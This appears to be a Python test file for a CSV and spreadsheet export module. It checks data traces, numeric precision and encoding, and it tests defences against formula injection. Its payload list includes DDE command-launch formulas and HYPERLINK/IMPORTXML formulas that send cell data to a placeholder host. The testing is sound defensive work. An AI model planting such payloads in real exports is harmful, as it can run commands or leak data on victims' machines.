"""Data as CSV: every kind of figure keeps its trace and its digits; nothing in it runs as a formula in a spreadsheet."""

import csv as reader
import io
import re
import unicodedata
from dataclasses import replace

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from charts.figure import Column
from exports import vocabulary
from exports.cells import harmless
from exports.table import csv, reader_columns, spreadsheet
from tests.exports import views
from tests.exports.conftest import ranking

INJECTIONS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\tabc",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "⁼1+1",
    '"=1+1',
    "a;=1+1",
    "a,=1+1",
    'a";"=1+1',
    "a\n=1+1",
    "-5",
    "+84 24 3943 1234",
]
NUMBER = re.compile(r"-?[0-9]+(,[0-9]+)?")


def cells_of(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(reader.reader(io.StringIO(text, newline=""), delimiter=";"))


def runs(cell: str) -> bool:
    """Would a spreadsheet take the cell as a formula? Written a second way: by what is left of it after trimming."""
    plain = unicodedata.normalize("NFKC", cell)
    bare = re.sub(r"^[\s\x00-\x1f\x7f-\xa0\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff]+", "", plain)
    return bare[:1] in tuple("=+-@") or cell[:1] in tuple("\t\r\n\0")


def with_names(names: list[str]):
    figure = ranking(len(names))
    return replace(figure, table=figure.table.assign(name=names))


@pytest.mark.parametrize("kind", views.KINDS)
def test_every_row_of_every_kind_has_its_source_edition_column_and_snapshot(kind: str) -> None:
    figure = views.figure(kind)
    table = pd.read_csv(io.BytesIO(csv(figure)), dtype=str, keep_default_na=False)
    assert len(table) == len(figure.table) > 0
    assert list(table.columns)[-3 - bool(figure.unofficial) :][:3] == ["source", "edition", "snapshot"]
    assert (table["snapshot"] == figure.snapshot).all()
    assert (table["source"] != "").all() or (table["source_url"] != "").all()
    assert not table.columns.duplicated().any()


@pytest.mark.parametrize("kind", views.KINDS)
def test_every_source_with_a_public_address_has_it_in_its_rows(kind: str) -> None:
    figure, sources = views.figure(kind), views.context().table("sources").set_index("id")
    table = pd.read_csv(io.BytesIO(csv(figure)), dtype=str, keep_default_na=False)
    for source, address in zip(table["source"], table.get("source_url", table["source"]), strict=True):
        known = sources.loc[source] if source in sources.index else None
        own = "" if known is None else known["original_url"] or known["url"]
        assert address == own if own else source in sources.index or "http" in address


@pytest.mark.parametrize("kind", views.KINDS)
def test_numbers_of_every_kind_keep_all_their_digits(kind: str) -> None:
    figure = views.figure(kind)
    table = pd.read_csv(io.BytesIO(csv(figure)), dtype=str, keep_default_na=False)
    checked = 0
    for name in table.columns.intersection(figure.table.columns):
        if pd.api.types.is_float_dtype(figure.table[name]):
            written = [float(text) if text else None for text in table[name]]
            assert written == [None if pd.isna(value) else value for value in figure.table[name]], name
            checked += 1
    assert checked or kind in ("indicators", "editions", "coverage", "sources", "technologies")


@pytest.mark.parametrize("kind", views.KINDS)
def test_plain_csv_is_utf8_nfc_with_lf_and_no_mark(kind: str) -> None:
    text = csv(views.figure(kind)).decode("utf-8")
    assert unicodedata.is_normalized("NFC", text)
    assert "\r" not in text and not text.startswith("\ufeff") and text.endswith("\n")


@pytest.mark.parametrize("kind", views.KINDS)
def test_every_column_of_every_kind_has_a_meaning_in_both_languages(kind: str) -> None:
    for column in reader_columns(views.figure(kind)):
        both = vocabulary.meaning("vi", column.key), vocabulary.meaning("en", column.key)
        assert all(both) and both[0] != both[1], column.key


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_a_spreadsheet_gets_mark_semicolon_crlf_and_decimal_comma_in_both_languages(lang: str) -> None:
    content = spreadsheet(views.figure("ranking", lang))
    lines = content.decode("utf-8").split("\r\n")
    assert lines[0].startswith("\ufeff") and lines[-1] == ""
    assert not any("\n" in line or "\r" in line for line in lines)
    assert lines[1].split(";")[:3] == ["1", '"Hà Nội"' if lang == "vi" else '"Ha Noi"', "0,8241"]
    assert not re.search(r";[0-9]+\.[0-9]+;", "\n".join(lines))


def test_the_header_has_the_labels_of_the_screen_then_the_trace() -> None:
    figure = views.figure("ranking")
    header = cells_of(spreadsheet(figure))[0]
    assert header[: len(figure.columns)] == [column.label for column in figure.columns]
    assert header[len(figure.columns) :] == ["Địa chỉ nguồn", "Kỳ công bố (mã)", "Ngày công bố (ISO)", "Bản dữ liệu"]


def test_a_value_in_words_is_followed_by_the_number() -> None:
    header, *rows = cells_of(spreadsheet(views.figure("digital-economy")))
    at = header.index("Giá trị")
    assert header[at + 1] == "Giá trị (số)"
    assert [row[at + 1] for row in rows if row[at] == "13,17% GDP"] == ["13,17"]


@pytest.mark.parametrize("kind", views.KINDS)
def test_numbers_of_the_spreadsheet_are_those_of_the_table(kind: str) -> None:
    figure = views.figure(kind)
    header, *rows = cells_of(spreadsheet(figure))
    shown = reader_columns(figure)
    assert len(header) == len(shown) and len(rows) == len(figure.table)
    for at, column in enumerate(shown):
        if column.key in figure.table and pd.api.types.is_float_dtype(figure.table[column.key]):
            written = [float(row[at].replace(",", ".")) if row[at] else None for row in rows]
            assert written == [None if pd.isna(value) else value for value in figure.table[column.key]]


@pytest.mark.parametrize("attack", INJECTIONS)
def test_a_formula_is_made_harmless(attack: str) -> None:
    written = cells_of(spreadsheet(with_names([attack])))[1][1]
    assert not runs(written)
    assert written.removeprefix("'") == unicodedata.normalize("NFC", attack)


@pytest.mark.parametrize("text", ["Hà Nội", "Bà Rịa - Vũng Tàu", "a=b", "1+1", "≥ 30% GDP", "–", "", "−3 điểm"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_the_header_is_made_harmless_too() -> None:
    figure = ranking(1)
    figure = replace(figure, columns=(*figure.columns[:1], Column("name", "=1+1")))
    assert cells_of(spreadsheet(figure))[0][1] == "'=1+1"


def test_negative_numbers_stay_numbers() -> None:
    figure = ranking(2)
    figure = replace(figure, table=figure.table.assign(value=[-0.5, -1e-7]))
    lines = spreadsheet(figure).decode("utf-8-sig").split("\r\n")
    assert [line.split(";")[2] for line in lines[1:3]] == ["-0,5", "-0,0000001"]


@given(
    st.lists(st.text(), min_size=1, max_size=4), st.lists(st.floats(allow_nan=True, allow_infinity=False), min_size=4)
)
@settings(deadline=None, max_examples=60)
def test_no_cell_begins_with_a_sign_unless_it_is_a_number(names: list[str], values: list[float]) -> None:
    figure = with_names(names)
    figure = replace(figure, table=figure.table.assign(value=values[: len(names)]))
    parsed = cells_of(spreadsheet(figure))
    assert len(parsed) == len(names) + 1
    assert not [cell for row in parsed for cell in row if runs(cell) and not NUMBER.fullmatch(cell)]


@given(st.text(alphabet="=+-@'\"; ,\t\r\n\0＝＋－＠\u200b\u00a0a", max_size=12))
@settings(deadline=None, max_examples=100)
def test_no_quote_or_separator_inside_a_text_sets_a_formula_free(name: str) -> None:
    header, row = cells_of(spreadsheet(with_names([name])))
    assert len(header) == len(row)
    assert not [cell for cell in row if runs(cell) and not NUMBER.fullmatch(cell)]


def test_a_figure_of_the_readers_own_says_so_in_every_row() -> None:
    figure = views.figure("own-weights")
    assert figure.unofficial
    table = pd.read_csv(io.BytesIO(csv(figure)))
    assert set(table["unofficial"]) == {figure.unofficial}
    assert all(row[-1] == figure.unofficial for row in cells_of(spreadsheet(figure))[1:])


def test_a_figure_without_rows_has_a_header_only() -> None:
    figure = replace(ranking(1), table=pd.DataFrame(), columns=())
    assert csv(figure) == b"source,edition,snapshot\n"
    assert (
        cells_of(spreadsheet(figure)) == [["Kỳ công bố (mã)", "Bản dữ liệu"]] or len(cells_of(spreadsheet(figure))) == 1
    )


@pytest.mark.parametrize("make", [csv, spreadsheet])
def test_the_same_figure_gives_the_same_bytes(make) -> None:
    from figures import catalogue
    from figures.context import Context

    again = catalogue.exported(Context(views.STORE.current(), "vi"), views.views()["digital-economy"])
    assert make(again) == make(views.figure("digital-economy"))
